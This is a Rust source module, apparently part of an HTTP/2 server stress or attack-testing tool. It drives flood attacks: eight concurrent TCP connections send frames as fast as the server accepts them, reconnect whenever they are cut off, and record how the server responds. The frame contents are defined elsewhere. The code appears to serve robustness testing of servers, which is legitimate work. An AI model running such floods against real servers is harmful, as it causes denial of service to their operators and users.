//! Attacks that send frames as fast as they are taken, on a few connections, and come again whenever they are cut off.

use std::collections::BTreeMap;
use std::sync::Arc;
use std::time::Duration;

use tokio::io::AsyncWriteExt as _;
use tokio::net::TcpStream;
use tokio::task::JoinSet;
use tokio::time::{sleep, timeout, timeout_at};

use crate::attack::Target;
use crate::wire::{self, GREETING};

/// Connections at the same time.
const CONNECTIONS: usize = 8;

/// What is sent of one kind.
#[derive(Clone, Copy)]
pub(crate) struct Flood {
    /// Sent after the greeting.
    pub(crate) opening: fn() -> Vec<u8>,
    /// What follows, by how often something did; nothing: the connection has done its part.
    pub(crate) then: fn(u32) -> Option<Vec<u8>>,
    /// What it is counted in, and how many of them are in each of what follows.
    pub(crate) unit: &'static str,
    pub(crate) units: u64,
    /// Whether it sends HTTP/2's greeting.
    pub(crate) greets: bool,
    /// Whether it hangs up as soon as it has done its part, and does not wait for the server to end the connection.
    pub(crate) hangs_up: bool,
}

impl Flood {
    pub(crate) async fn run(self, target: Arc<Target>) {
        let mut tasks = JoinSet::new();
        for _ in 0..CONNECTIONS {
            let target = Arc::clone(&target);
            tasks.spawn_local(async move {
                while !target.is_over() {
                    self.one(&target).await;
                }
            });
        }
        tasks.join_all().await;
    }

    async fn one(self, target: &Arc<Target>) {
        let Ok(Ok(stream)) = timeout_at(target.until, TcpStream::connect(&target.address)).await else {
            target.met("connections not taken", 1);
            sleep(Duration::from_millis(10)).await;
            return;
        };
        target.sent("connections", 1);
        let (reads, mut writes) = stream.into_split();
        let mut listening = tokio::task::spawn_local({
            let target = Arc::clone(target);
            async move {
                let says = |counts: BTreeMap<&'static str, u64>| {
                    for (what, count) in counts {
                        target.met(what, count);
                    }
                };
                wire::listen(reads, says).await
            }
        });
        let greeting = if self.greets { GREETING } else { b"" };
        let opening = [greeting, &(self.opening)()].concat();
        target.sent("bytes", opening.len() as u64);
        let mut ended = !matches!(timeout_at(target.until, writes.write_all(&opening)).await, Ok(Ok(())));
        let mut done = false;
        for round in 0.. {
            if ended || target.is_over() || listening.is_finished() {
                break;
            }
            let Some(piece) = (self.then)(round) else {
                done = true;
                break;
            };
            ended = !matches!(timeout_at(target.until, writes.write_all(&piece)).await, Ok(Ok(())));
            target.sent(self.unit, self.units);
            target.sent("bytes", piece.len() as u64);
            tokio::task::yield_now().await;
        }
        if done && self.hangs_up {
            listening.abort();
            return;
        }
        let patience = Duration::from_secs(if done || ended { 2 } else { 0 });
        match timeout(patience, &mut listening).await {
            Ok(how) => target.met(&how.unwrap_or_default(), 1),
            Err(_) => target.met("held to the end", 1),
        }
        listening.abort();
    }
}
